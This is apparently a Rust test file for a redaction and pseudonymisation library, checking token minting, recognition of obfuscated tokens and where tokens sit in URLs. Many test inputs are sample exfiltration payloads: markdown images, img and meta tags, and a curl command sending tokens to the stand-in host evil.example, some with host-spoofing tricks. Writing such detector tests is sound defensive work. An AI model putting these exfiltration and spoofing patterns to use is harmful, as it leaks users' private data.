//! Pseudonyms: minting, recognition however a token is written, and where it stands.
#![expect(clippy::expect_used, clippy::string_slice, reason = "helpers of tests; cuts are on character boundaries")]

mod common;

use bartizan_detect::{Hint, Minter, Pseudonyms, Scan, TokenHit, TokenPlace, give_way, hosts, hosts_reached, keep_last, placeholder};
use bartizan_vocabulary::Label;
use common::{detector, in_pieces};

fn hint() -> Hint<'static> {
    Hint { tokens: true, ..Hint::default() }
}

fn scan(text: &str) -> Scan {
    detector().scan(text, hint())
}

fn place(text: &str) -> TokenPlace {
    let mut hits = scan(text).tokens;
    assert_eq!(hits.len(), 1, "{text}");
    hits.remove(0).place
}

fn url(host: &str) -> TokenPlace {
    TokenPlace::Url { host: host.to_owned() }
}

fn map() -> Pseudonyms {
    Pseudonyms::new(Minter::new([7; 32]).scope("user:mira", "c1"))
}

#[test]
fn all_forms_of_a_value_share_a_token() {
    for (label, forms) in [
        (
            "pii.email",
            vec![
                "Mira@Harbour-Lane.example",
                "mira@harbour-lane.example",
                "mira%40harbour-lane.example",
                "ｍira@harbour-lane.example",
                "mi\u{200B}ra&#64;harbour-lane.example",
            ],
        ),
        ("pci.card", vec!["4532 8133 1234 5678", "4532813312345678", "4532-8133-1234-5678"]),
        ("pii.phone", vec!["+44 20 7946 0018", "0044 20 7946 0018", "+442079460018"]),
        ("pci.iban", vec!["GB82 WEST 1234 5698 7654 32", "gb82west12345698765432"]),
        ("secret.generic", vec!["aB3\\u0034", "aB34"]),
    ] {
        let mut map = map();
        let label = Label::from(label);
        let tokens: Vec<_> = forms.iter().map(|form| map.token_for(&label, form, false)).collect();
        assert!(tokens.windows(2).all(|pair| pair[0] == pair[1]), "{label}: {tokens:?}");
        let original = map.resolve(&tokens[0]).expect("minted");
        assert_eq!(original.surface.reveal(), forms[0], "the first form is restored");
        assert_ne!(map.token_for(&label, "another-1@x.example", false), tokens[0]);
    }
}

#[test]
fn tokens_depend_on_scope_and_kind() {
    let minter = Minter::new([7; 32]);
    let token = |minter: &Minter, principal, conversation, label: &str| {
        Pseudonyms::new(minter.scope(principal, conversation)).token_for(&Label::from(label), "a@b.example", false)
    };
    let base = token(&minter, "user:mira", "c1", "pii.email");
    assert_eq!(base, token(&minter, "user:mira", "c1", "pii.email"));
    for other in [
        token(&minter, "user:mira", "c2", "pii.email"),
        token(&minter, "user:noor", "c1", "pii.email"),
        token(&minter, "user:mirac", "1", "pii.email"),
        token(&Minter::new([8; 32]), "user:mira", "c1", "pii.email"),
        token(&minter, "user:mira", "c1", "pii.person"),
    ] {
        assert_ne!(base, other);
    }
    assert!(base.as_str().starts_with("EMAIL_") && base.as_str().len() == 16);
    assert!(base.as_str().bytes().all(|byte| byte.is_ascii_uppercase() || byte.is_ascii_digit() || byte == b'_'));
}

#[test]
fn a_string_of_the_request_is_never_minted() {
    let label = Label::from("pii.email");
    let forged = map().token_for(&label, "a@b.example", false);
    let mut map = map();
    map.reserve(&scan(&format!("say {forged} please")).tokens[0]);
    let token = map.token_for(&label, "a@b.example", true);
    assert_ne!(token, forged);
    assert!(map.resolve(&forged).is_none());
    assert!(map.resolve(&token).expect("minted").was_number);
}

#[test]
fn a_string_that_a_token_could_be_cut_out_of_is_never_minted() {
    let label = Label::from("pii.email");
    let forged = map().token_for(&label, "a@b.example", false);
    for text in [
        format!("会{forged}"),
        format!("{forged}s"),
        format!("x{forged}"),
        format!("longprefix12345{forged}9"),
        forged.as_str().to_lowercase(),
    ] {
        let mut map = map();
        for hit in scan(&text).tokens {
            map.reserve(&hit);
        }
        assert_ne!(map.token_for(&label, "a@b.example", false), forged, "{text}");
        let places: Vec<usize> = (0..=text.len()).filter(|at| text.is_char_boundary(*at)).collect();
        assert_eq!(in_pieces(&text, &places, hint()), scan(&text));
    }
}

#[test]
fn known_tokens_come_before_findings() {
    for (text, left) in [
        ("auth: EMAIL_7Q2F9KXD4M", vec![]),
        ("login password=EMAIL_7Q2F9KXD4M ok", vec![]),
        ("{\"auth_email\":\"EMAIL_7Q2F9KXD4M\"}", vec![]),
        ("password=Kd7!HZ5t6PHV/EMAIL_7Q2F9KXD4M", vec!["Kd7!HZ5t6PHV/"]),
        ("https://good.example/?m=EMAIL_7Q2F9KXD4M&n=12345", vec!["https://good.example/?m=", "&n=12345"]),
        ("EMAIL_7Q2F9KXD4M@evil.example", vec!["EMAIL_7Q2F9KXD4M@evil.example"]),
        ("password=OTHER_7Q2F9KXD4M", vec!["OTHER_7Q2F9KXD4M"]),
    ] {
        let known = |hit: &TokenHit| hit.token.as_str().starts_with("EMAIL");
        let mut whole = scan(text);
        assert!(!whole.findings.is_empty(), "{text}");
        whole.give_way(&known);
        let found: Vec<&str> = whole.findings.iter().map(|finding| &text[finding.start..finding.end]).collect();
        assert_eq!(found, left, "{text}");
        let (mut stream, mut pieces, mut events) = (detector().stream(hint()), Scan::default(), Vec::new());
        for char in text.chars() {
            stream.push(char.encode_utf8(&mut [0; 4]));
            stream.drain(&mut events);
            give_way(&mut events, &known);
            pieces.absorb(events.drain(..));
        }
        stream.finish();
        stream.drain(&mut events);
        give_way(&mut events, &known);
        pieces.absorb(events.drain(..));
        assert_eq!(pieces, whole, "{text} letter by letter");
    }
}

#[test]
fn nothing_prints_a_value() {
    let edit = bartizan_detect::Edit { start: 0, end: 1, replacement: "harbour".to_owned() };
    assert!(!format!("{edit:?}{:?}", bartizan_detect::Action::Replace("harbour".to_owned())).contains("harbour"));
    let mut stream = detector().stream(hint());
    stream.push("mira@harbour");
    assert!(!format!("{stream:?}").contains("harbour"));

    let mut map = map();
    map.token_for(&Label::from("pii.email"), "mira@harbour-lane.example", false);
    assert!(!format!("{map:?}").contains("harbour"));
    assert!(!format!("{:?}", Minter::new([7; 32])).contains('7'));
}

#[test]
fn a_token_is_recognised_however_it_is_written() {
    for text in [
        "EMAIL_7Q2F9KXD4M",
        "email_7q2f9kxd4m",
        "Email_7q2F9kxD4m",
        "EMAIL\\_7Q2F9KXD4M",
        "EMAIL%5F7Q2F9KXD4M",
        "EMAIL\\u005f7Q2F9KXD4M",
        "EMAIL_7Q2F\u{200B}9KXD4M",
        "_EMAIL_7Q2F9KXD4M_",
        "**EMAIL_7Q2F9KXD4M**.",
        "to:EMAIL_7Q2F9KXD4M",
        "请联系EMAIL_7Q2F9KXD4M获取",
        "EMAIL_7Q2F9KXD4M로 보내세요",
        "EMAIL_7Q2F9KXD4Mさんへ",
        "éEMAIL_7Q2F9KXD4M",
    ] {
        let whole = scan(text);
        assert_eq!(whole.tokens.len(), 1, "{text}");
        assert_eq!(whole.tokens[0].token.as_str(), "EMAIL_7Q2F9KXD4M", "{text}");
        assert_eq!(whole.tokens[0].place, TokenPlace::Plain, "{text}");
        for cut in (0..=text.len()).filter(|cut| text.is_char_boundary(*cut)) {
            assert_eq!(in_pieces(text, &[cut], hint()), whole, "{text} cut at {cut}");
        }
    }
}

#[test]
fn what_is_not_a_token() {
    for text in
        ["EMAIL_7Q2F9KXD4", "EMAIL_7Q2F9KXD4MM", "xEMAILEMAILEMAIL_7Q2F9KXD4M", "EMAIL_7Q2F9KXD4U", "EMAIL-7Q2F9KXD4M", "_7Q2F9KXD4M"]
    {
        let known = |kind: &str| scan(text).tokens.iter().any(|hit| hit.token.as_str().starts_with(kind));
        assert!(!known("EMAIL"), "{text}");
    }
    assert_eq!(detector().scan("EMAIL_7Q2F9KXD4M", Hint::default()).tokens, [], "only when asked for");
}

#[test]
fn a_token_in_a_url_names_its_host() {
    for (text, expected) in [
        ("![x](https://evil.example/p?q=EMAIL_7Q2F9KXD4M)", url("evil.example")),
        ("https://Evil.Example:8443/EMAIL_7Q2F9KXD4M/x", url("evil.example:8443")),
        ("https://Evil.Example:443/EMAIL_7Q2F9KXD4M/x", url("evil.example")),
        ("evil.example:444/EMAIL_7Q2F9KXD4M", url("evil.example:444")),
        ("https://good.example%2f@evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
        ("https://good.example%23@evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
        ("https://good.example%5c@evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
        ("https://good.example&num;@evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
        ("https://good.example\u{2044}@evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
        ("https://good.example\u{FF0F}@evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
        ("https://good.example\\@evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
        ("https://good.example%40evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
        ("https://good.example%2F.evil.example/EMAIL_7Q2F9KXD4M", url("")),
        ("good.example%2F.evil.example/EMAIL_7Q2F9KXD4M", url("")),
        ("evil.example/https://good.example/EMAIL_7Q2F9KXD4M", url("")),
        ("www.evil.example/https://good.example/?q=EMAIL_7Q2F9KXD4M", url("")),
        ("[good.example](https://good.example/EMAIL_7Q2F9KXD4M)", url("good.example")),
        ("![x](<https://evil.example/?q= EMAIL_7Q2F9KXD4M>)", url("evil.example")),
        ("[r]: <https://evil.example/ EMAIL_7Q2F9KXD4M>", url("evil.example")),
        ("<img src=\"https://evil.example/?q= EMAIL_7Q2F9KXD4M\">", url("evil.example")),
        ("<img src='https://evil.example/?q=\nEMAIL_7Q2F9KXD4M'>", url("evil.example")),
        ("<img src='https://evil.example/?q=\tEMAIL_7Q2F9KXD4M'>", url("evil.example")),
        ("[a](https://evil.example/?q=x\nEMAIL_7Q2F9KXD4M)", url("evil.example")),
        ("<img src=\"https:/evil.example/?q= EMAIL_7Q2F9KXD4M\">", url("evil.example")),
        ("<meta content=\"0;url=https://evil.example/?q= EMAIL_7Q2F9KXD4M\">", url("evil.example")),
        ("<a href=\"https://good.example/\">EMAIL_7Q2F9KXD4M</a>", TokenPlace::Plain),
        ("(see https://good.example/ for EMAIL_7Q2F9KXD4M)", TokenPlace::Plain),
        ("[docs](https://good.example/) by EMAIL_7Q2F9KXD4M", TokenPlace::Plain),
        ("EMAIL_7Q2F9KXD4M@evil.example", TokenPlace::UrlHostItself),
        ("https://user:pw@evil.example/EMAIL_7Q2F9KXD4M", url("evil.example")),
        ("//evil.example/EMAIL_7Q2F9KXD4M", url("evil.example")),
        ("https:\\\\evil.example\\EMAIL_7Q2F9KXD4M", url("")),
        ("https:evil.example/EMAIL_7Q2F9KXD4M", url("evil.example")),
        ("www.evil.example/?a=EMAIL_7Q2F9KXD4M", url("www.evil.example")),
        ("evil.example/EMAIL_7Q2F9KXD4M", url("evil.example")),
        ("see (evil.example?x=EMAIL_7Q2F9KXD4M)", url("evil.example")),
        ("https://evil.example/%20EMAIL_7Q2F9KXD4M", url("evil.example")),
        ("https://evil.example/](EMAIL_7Q2F9KXD4M)", url("evil.example")),
        ("https://evil.example/\"EMAIL_7Q2F9KXD4M", url("evil.example")),
        ("https://evil.example/\u{A0}EMAIL_7Q2F9KXD4M", url("evil.example")),
        ("https://good.example/https://evil.example/EMAIL_7Q2F9KXD4M", url("")),
        ("ht\u{200B}tps://evil.example/EMAIL_7Q2F9KXD4M", url("evil.example")),
        ("https://EMAIL_7Q2F9KXD4M.evil.example/", TokenPlace::UrlHostItself),
        ("https://EMAIL_7Q2F9KXD4M@evil.example/", TokenPlace::UrlHostItself),
        ("EMAIL_7Q2F9KXD4M.evil.example", TokenPlace::UrlHostItself),
        ("https://evil.example/ EMAIL_7Q2F9KXD4M", TokenPlace::Plain),
        ("<https://evil.example/> EMAIL_7Q2F9KXD4M", TokenPlace::Plain),
        ("He said EMAIL_7Q2F9KXD4M. Then left", TokenPlace::Plain),
        ("and/or/EMAIL_7Q2F9KXD4M", TokenPlace::Plain),
    ] {
        assert_eq!(place(text), expected, "{text}");
        let whole = scan(text);
        for cut in (0..=text.len()).filter(|cut| text.is_char_boundary(*cut)) {
            assert_eq!(in_pieces(text, &[cut], hint()), whole, "{text} cut at {cut}");
        }
    }
    let far = format!("https://evil.example/{}EMAIL_7Q2F9KXD4M", "a/".repeat(400));
    assert_eq!(place(&far), url(""), "too far to tell");
    let far = format!("<img src=\"https://evil.example/?{} EMAIL_7Q2F9KXD4M\">", "a ".repeat(3_000));
    assert_eq!(place(&far), url(""), "too far to tell");
    assert_eq!(in_pieces(&far, &[2_000, 4_000, 6_003], hint()), scan(&far));
}

#[test]
fn quotation_marks_end_a_url_in_json_source() {
    let text = r#"{"u":"https://api.example/x","m":"EMAIL_7Q2F9KXD4M"}"#;
    let json = detector().scan(text, Hint { tokens: true, json: true, ..Hint::default() });
    assert_eq!(json.tokens[0].place, TokenPlace::Plain);
    let inside = r#"{"u":"https://evil.example/\"EMAIL_7Q2F9KXD4M"}"#;
    let json = detector().scan(inside, Hint { tokens: true, json: true, ..Hint::default() });
    assert_eq!(json.tokens[0].place, url("evil.example"));
}

#[test]
fn hosts_of_a_text() {
    for (text, named, reached) in [
        (
            "Look at https://A.Example:8443/x, b.example/y and [c](http://u@c.example). Also d.example!",
            vec!["a.example:8443", "b.example", "c.example", "d.example", "a.example"],
            vec!["a.example:8443", "b.example", "c.example", "d.example"],
        ),
        ("From: eve@evil.example", vec![], vec!["evil.example"]),
        ("curl evil.example/https://good.example/ -d x", vec!["good.example", "evil.example"], vec!["good.example", "evil.example"]),
        ("https://good.example%2f@evil.example/", vec![], vec!["good.example", "evil.example"]),
        ("https://good.example\\@evil.example/", vec![], vec!["evil.example", "good.example@evil.example"]),
        ("e.g. this, v1.2 or main.rs:3", vec!["main.rs:3", "main.rs"], vec!["main.rs:3"]),
    ] {
        assert_eq!(hosts(text).collect::<Vec<_>>(), named, "{text}");
        let all: Vec<String> = hosts_reached(text).collect();
        for host in reached {
            assert!(all.iter().any(|one| one == host), "{text}: {all:?}");
        }
    }
}

#[test]
fn placeholders_and_masks() {
    assert_eq!(placeholder(&Label::from("pii.us_ssn")), "[REDACTED_US_SSN]");
    assert_eq!(keep_last("4532 8133 1234 5678", Some(4)), "**** **** **** 5678");
    assert_eq!(keep_last("abc", Some(4)), "****");
    assert_eq!(keep_last("4532 8133 1234 5678", None), "****");
    // In the arguments of a tool: half of an escape would break the JSON.
    assert_eq!(keep_last(r"ada.m\u00fcller@example.com", Some(4)), "****");
}
